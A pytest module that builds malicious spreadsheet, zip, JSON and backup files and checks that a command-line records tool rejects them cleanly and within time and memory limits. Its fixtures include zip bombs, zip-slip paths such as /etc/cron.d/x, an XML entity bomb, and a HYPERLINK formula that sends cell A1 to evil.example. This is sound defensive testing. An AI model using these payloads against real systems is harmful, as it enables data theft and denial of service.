"""The attack's hostile corpus through the real command line: each kind refused with exit 2 and one clear line,
no traceback, the database unchanged, under 5 s and 300 MB of peak memory (the child's own maximum RSS).

`python3 -m pytest tests/protection/test_hostile_corpus_cli.py -s` prints the table kind → exit → message →
seconds → MB; `COMMUNE_DESK_CORPUS_TABLE=FILE` also writes it to FILE.
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
import warnings
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import text

ROOT = Path(__file__).resolve().parents[2]
MiB = 1 << 20
MAX_SECONDS, MAX_MB = 5.0, 300.0
RESULTS: list[tuple] = []
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


# The child measures its own peak: VmHWM of its memory map, which starts fresh at exec (ru_maxrss would include
# the pytest parent's pages copied at fork).
_CHILD = """
import os, sys
from commune_desk.cli import main
try:
    code = main(sys.argv[1:])
finally:
    try:
        with open('/proc/self/status') as fh:
            hwm = next((l.split()[1] for l in fh if l.startswith('VmHWM:')), '')
        with open(os.environ['CORPUS_HWM_FILE'], 'w') as out:
            out.write(hwm)
    except OSError:
        pass
sys.exit(code)
"""


def run_measured(args, env) -> tuple[int, str, str, float, float, float]:
    """(exit code, stdout, stderr, wall seconds, CPU seconds, peak MB) of one real command line.

    The time bound is on CPU seconds (user + system of the child): on this shared 2-core machine ~7 engineers'
    test runs make wall time 3–5× longer, and a trivial refusal already takes ~4.5 s of wall time; both are in
    the table.
    """
    hwm_file = Path(env["COMMUNE_DESK_HOME"]) / f"hwm-{os.getpid()}.txt"
    hwm_file.unlink(missing_ok=True)
    env = dict(env, CORPUS_HWM_FILE=str(hwm_file))
    started = time.monotonic()
    with open(os.devnull, "rb") as stdin:
        proc = subprocess.Popen(
            [sys.executable, "-c", _CHILD, *map(str, args)],
            stdin=stdin,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=env,
            cwd=ROOT,
        )
        out, err = proc.communicate(timeout=120)
    wall = time.monotonic() - started
    usage = proc_usage.get(proc.pid)
    cpu = usage.ru_utime + usage.ru_stime if usage else wall
    try:
        peak_mb = int(hwm_file.read_text()) / 1024
    except (OSError, ValueError):
        peak_mb = float("nan")
    return proc.returncode, out.decode("utf-8", "replace"), err.decode("utf-8", "replace"), wall, cpu, peak_mb


proc_usage: dict = {}
_real_wait = subprocess.Popen._try_wait


def _try_wait(self, wait_flags):
    """subprocess's own wait, through os.wait4: the child's CPU time is kept (its exit status is unchanged)."""
    try:
        pid, sts, usage = os.wait4(self.pid, wait_flags)
    except ChildProcessError:
        return _real_wait(self, wait_flags)
    if pid == self.pid:
        proc_usage[pid] = usage
    return pid, sts


subprocess.Popen._try_wait = _try_wait


# ---- building the corpus --------------------------------------------------------------------------------------
def _members(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def _zip(dest: Path, members, streamed: tuple[str, int, bytes] | None = None) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names warn when written
        with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in members:
                if streamed and name == streamed[0]:
                    continue
                zf.writestr(name, data)
            if streamed:
                name, size, block = streamed
                with zf.open(name, "w", force_zip64=True) as fh:
                    for _ in range(size // len(block)):
                        fh.write(block)
    return dest


def _sheet_xml(body: str, after: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>{body}</sheetData>{after}</worksheet>'
    ).encode()


def _replace(src: Path, dest: Path, part: str, data: bytes, extra=()) -> Path:
    return _zip(dest, [(n, data if n == part else d) for n, d in _members(src)] + list(extra))


def _sheet_part(book: Path, sheet: str) -> str:
    import openpyxl

    wb = openpyxl.load_workbook(book, read_only=True)
    try:
        return f"xl/worksheets/sheet{wb.sheetnames.index(sheet) + 1}.xml"
    finally:
        wb.close()


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """A demo database, its records export, the sample plan, a receipt-shaped zip and a backup; built once."""
    from datetime import date

    from commune_desk.services.demo_data.demo import create_demo
    from commune_desk.services.records.records_workbook import export_records
    from commune_desk.storage.backup import write_backup
    from commune_desk.storage.database import open_database

    home = tmp_path_factory.mktemp("home")
    tmp = tmp_path_factory.mktemp("corpus")
    env = dict(os.environ, COMMUNE_DESK_HOME=str(home), PYTHONPATH=str(ROOT))
    env.pop("COMMUNE_DESK_DB", None)
    db_path = tmp / "commune.db"
    db = open_database(db_path)
    try:
        create_demo(db, year=2026, seed=11, force=False, actor="test", today=date(2026, 11, 20), with_plan=True)
        export_records(db, tmp / "records.xlsx")
        write_backup(db, tmp / "backup.db")
    finally:
        db.dispose()
    import openpyxl

    wb = openpyxl.load_workbook(tmp / "records.xlsx")
    for name in wb.sheetnames:
        if name not in ("_profile", "residential_units", "propaganda"):
            wb[name].sheet_state = "visible"
            for row in wb[name].iter_rows(min_row=3):
                for c in row:
                    c.value = None
    wb.save(tmp / "propaganda-only.xlsx")
    return {
        "tmp": tmp,
        "env": env,
        "db": db_path,
        "records": tmp / "records.xlsx",
        "backup": tmp / "backup.db",
        "propaganda_only": tmp / "propaganda-only.xlsx",
        "plan": ROOT / "resources" / "plans" / "plan_001_lang_son_2024.xlsx",
    }


def _records_cases(w) -> dict:
    book = w["records"]
    prop = _sheet_part(book, "propaganda")
    rows = [(n, d) for n, d in _members(book)]
    cells = w["propaganda_only"]  # a workbook the database would accept, but for the one bad cell
    own = dict(_members(cells))[prop].decode()
    sheet = dict(rows)[prop].decode()
    formula_cached = sheet.replace(
        "</sheetData>",
        '<row r="900"><c r="C900" t="str"><f>HYPERLINK("http://evil.'
        'example/?"&amp;A1)</f><v>x</v></c></row></sheetData>',
        1,
    )
    formula_bare = sheet.replace("</sheetData>", '<row r="900"><c r="E900"><f>1+1</f></c></row></sheetData>', 1)
    return {
        "zip bomb: 2 MiB inflating to 2 GiB": lambda p: _zip(p, rows, (prop, 2048 * MiB, bytes(MiB))),
        "1 GiB shared string": lambda p: _zip(
            p, rows + [("xl/sharedStrings.xml", b"")], ("xl/sharedStrings.xml", 1024 * MiB, b"a" * MiB)
        ),
        "one cell of 40,000 characters": lambda p: _replace(
            book,
            p,
            prop,
            sheet.replace(
                "</sheetData>",
                f'<row r="900"><c r="C900" t="inlineStr"><is><t>{"x" * 40000}</t></is></c></row></sheetData>',
                1,
            ).encode(),
        ),
        "zip-slip entry ../../evil.xml": lambda p: _zip(p, rows + [("../../evil.xml", b"<x/>")]),
        "absolute entry /etc/cron.d/x": lambda p: _zip(p, rows + [("/etc/cron.d/x", b"<x/>")]),
        "duplicate entry (shadow sheet)": lambda p: _zip(p, rows + [(prop, _sheet_xml(""))]),
        "10,000 entries": lambda p: _zip(p, rows + [(f"xl/media/e{i}.bin", b"") for i in range(10_000)]),
        "formula with a cached value": lambda p: _replace(book, p, prop, formula_cached.encode()),
        "formula without a cached value": lambda p: _replace(book, p, prop, formula_bare.encode()),
        "merged-cell bomb": lambda p: _replace(
            book,
            p,
            prop,
            sheet.replace(
                "</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="H1:XFD1048576"/></mergeCells>', 1
            ).encode(),
        ),
        "entity bomb (DTD)": lambda p: _replace(
            book, p, "xl/workbook.xml", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l "lol">]><workbook>&l;</workbook>'
        ),
        "truncated workbook": lambda p: (p.write_bytes(book.read_bytes()[: book.stat().st_size // 2]), p)[1],
        "not a workbook (text)": lambda p: (p.write_bytes("Họ tên;CCCD\n".encode()), p)[1],
        "cell error #DIV/0!": lambda p: _replace(
            cells,
            p,
            prop,
            own.replace(
                "</sheetData>",
                '<row r="900"><c r="A900" t="e"><v>#DIV/0!</v></c><c r="D900"><v>3</v></c></row></sheetData>',
                1,
            ).encode(),
        ),
        "number 1e308 in a count": lambda p: _replace(
            cells,
            p,
            prop,
            own.replace(
                "</sheetData>",
                '<row r="900"><c r="A900" t="inlineStr"><is><t>01/03/2026</t></is></c>'
                '<c r="B900" t="inlineStr"><is><t>loa</t></is></c><c r="C900" t="inlineStr"><is><t>x</t></is></c>'
                '<c r="D900"><v>1e308</v></c></row></sheetData>',
                1,
            ).encode(),
        ),
        "boolean in a date column": lambda p: _replace(
            cells,
            p,
            prop,
            own.replace("</sheetData>", '<row r="900"><c r="A900" t="b"><v>1</v></c></row></sheetData>', 1).encode(),
        ),
        "date serial beyond 9999": lambda p: _replace(
            cells,
            p,
            prop,
            own.replace(
                "</sheetData>", '<row r="900"><c r="A900" s="1"><v>9999999</v></c></row></sheetData>', 1
            ).encode(),
        ),
    }


def _plan_cases(w) -> dict:
    plan = w["plan"]
    part = _sheet_part(plan, "targets")
    sheet = dict(_members(plan))[part].decode()
    merged = '<mergeCells count="1"><mergeCell ref="{}"/></mergeCells>'
    return {
        "merged-cell bomb H1:XFD1048576": lambda p: _replace(
            plan, p, part, sheet.replace("</sheetData>", "</sheetData>" + merged.format("H1:XFD1048576"), 1).encode()
        ),
        "1.9 M-cell merge": lambda p: _replace(
            plan, p, part, sheet.replace("</sheetData>", "</sheetData>" + merged.format("A1:BV1999"), 1).encode()
        ),
        "zip bomb part": lambda p: _zip(p, _members(plan), ("xl/media/zeros.bin", 512 * MiB, bytes(MiB))),
        "entity bomb": lambda p: _replace(
            plan, p, "xl/workbook.xml", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l "lol">]><workbook>&l;</workbook>'
        ),
    }


def _receipt_cases(w) -> dict:
    sig = ("receipt.p7s", b"\x30\x82\x01\x00")
    return {
        "zip-slip entry": lambda p: _zip(p, [("receipt.json", b"{}"), sig, ("../x", b"x")]),
        "damaged archive": lambda p: (p.write_bytes(b"PK\x03\x04" + os.urandom(3000)), p)[1],
        "zip bomb": lambda p: _zip(p, [sig], ("receipt.json", 64 * MiB, b" " * MiB)),
        "JSON nested 100,000 deep": lambda p: _zip(p, [("receipt.json", b"[" * 100_000 + b"]" * 100_000), sig]),
    }


def _restore_cases(w) -> dict:
    backup = w["backup"]

    def tampered(p):
        data = bytearray(backup.read_bytes())
        at = data.find("Thôn".encode())
        data[at] ^= 1
        p.write_bytes(bytes(data))
        p.with_name(p.name + ".seal").write_bytes(Path(f"{backup}.seal").read_bytes())
        return p

    def truncated(p):
        p.write_bytes(backup.read_bytes()[: backup.stat().st_size // 2 + 100])
        return p

    def directory(p):
        p.mkdir()
        return p

    return {
        "tampered plain backup (one byte)": tampered,
        "truncated backup": truncated,
        "empty backup": lambda p: (p.write_bytes(b""), p)[1],
        "directory as backup": directory,
        "random bytes as backup": lambda p: (p.write_bytes(os.urandom(8192)), p)[1],
    }


def _dump(db_path: Path):
    from commune_desk.storage.database import open_database

    db = open_database(db_path, create=False)
    try:
        with db.read() as s:
            names = [
                r[0]
                for r in s.execute(
                    text("SELECT name FROM sqlite_master WHERE type='table' AND name NOT LIKE 'sqlite_%' ORDER BY name")
                )
            ]
            return {n: s.execute(text(f'SELECT * FROM "{n}" ORDER BY 1')).all() for n in names}
    finally:
        db.dispose()


COMMANDS = {
    "records import": ("records", "import"),
    "plan import": ("plan", "import"),
    "receipt import": ("receipt", "import"),
    "restore": ("restore",),
}
GROUPS = {
    "records import": _records_cases,
    "plan import": _plan_cases,
    "receipt import": _receipt_cases,
    "restore": _restore_cases,
}
NAMES = {
    "records import": [
        "zip bomb: 2 MiB inflating to 2 GiB",
        "1 GiB shared string",
        "one cell of 40,000 characters",
        "zip-slip entry ../../evil.xml",
        "absolute entry /etc/cron.d/x",
        "duplicate entry (shadow sheet)",
        "10,000 entries",
        "formula with a cached value",
        "formula without a cached value",
        "merged-cell bomb",
        "entity bomb (DTD)",
        "truncated workbook",
        "not a workbook (text)",
        "cell error #DIV/0!",
        "number 1e308 in a count",
        "boolean in a date column",
        "date serial beyond 9999",
    ],
    "plan import": ["merged-cell bomb H1:XFD1048576", "1.9 M-cell merge", "zip bomb part", "entity bomb"],
    "receipt import": ["zip-slip entry", "damaged archive", "zip bomb", "JSON nested 100,000 deep"],
    "restore": [
        "tampered plain backup (one byte)",
        "truncated backup",
        "empty backup",
        "directory as backup",
        "random bytes as backup",
    ],
}
PARAMS = [(g, n) for g, names in NAMES.items() for n in names]
SUFFIX = {"records import": ".xlsx", "plan import": ".xlsx", "receipt import": ".zip", "restore": ".db"}


def _check(kind: str, result) -> str:
    code, _out, err, wall, cpu, peak = result
    lines = [line for line in err.splitlines() if line.strip() and ": note: " not in line]
    message = lines[0] if lines else ""
    RESULTS.append((kind, code, message.removeprefix("commune-desk: ")[:160], cpu, wall, peak))
    assert "Traceback" not in err and "Exception ignored" not in err, err
    assert code == 2, (kind, code, err)
    # One clear line; a workbook refused by validation lists each problem, one line each, naming its place.
    assert len(lines) == 1 or all(" row " in line for line in lines), err
    assert cpu < MAX_SECONDS, f"{kind}: {cpu:.1f} s of CPU"
    assert wall < 60, f"{kind}: {wall:.1f} s of wall time (hung?)"
    assert peak < MAX_MB, f"{kind}: {peak:.0f} MB"
    return message


@pytest.mark.parametrize("group,name", PARAMS, ids=[f"{g}: {n}" for g, n in PARAMS])
def test_hostile_file_is_refused_through_the_command_line(world, group, name):
    builder = GROUPS[group](world)[name]
    path = builder(world["tmp"] / f"hostile-{abs(hash(name))}{SUFFIX[group]}")
    before = _dump(world["db"])
    extra = ["--unverified"] if group == "restore" and "tampered" not in name else []
    _check(f"{group}: {name}", run_measured(["--db", world["db"], *COMMANDS[group], path, *extra], world["env"]))
    assert _dump(world["db"]) == before


def test_bad_command_lines_are_refused(world):
    tmp, env = world["tmp"], world["env"]
    (tmp / "afile").write_text("x")
    (tmp / "adir.db").mkdir(exist_ok=True)
    before = _dump(world["db"])
    for kind, args in (
        ("--db is a folder", ["--db", tmp / "adir.db", "profile", "show"]),
        ("--db is /dev/null", ["--db", os.devnull, "profile", "show"]),
        ("--db under a file", ["--db", tmp / "afile" / "c.db", "demo"]),
        ("--db that does not exist", ["--db", tmp / "typo.db", "records", "export", tmp / "x.xlsx"]),
        ("report --out at a file", ["--db", world["db"], "report", "2026-Q3", "--out", tmp / "afile"]),
        ("demo --year -5", ["--db", world["db"], "demo", "--year", "-5"]),
        ("demo --year 99999 --force", ["--db", world["db"], "demo", "--year", "99999", "--force"]),
        ("backup over an existing file", ["--db", world["db"], "backup", tmp / "afile"]),
    ):
        _check(f"command line: {kind}", run_measured(args, env))
    assert not (tmp / "typo.db").exists()
    assert _dump(world["db"]) == before


def test_zz_print_the_table():
    """Last in this module: the table of the closing note (kind → exit → message → seconds → MB)."""
    lines = ["| kind | exit | message | CPU s | wall s | peak MB |", "|---|---|---|---|---|---|"]
    lines += [
        f"| {k} | {c} | {m.replace('|', '/')} | {cpu:.2f} | {wall:.2f} | {mb:.0f} |"
        for k, c, m, cpu, wall, mb in RESULTS
    ]
    table = "\n".join(lines)
    print("\n" + table)
    target = os.environ.get("COMMUNE_DESK_CORPUS_TABLE")
    if target:
        Path(target).write_text(table + "\n", encoding="utf-8")
    assert len(RESULTS) >= len(PARAMS) + 8 or not RESULTS
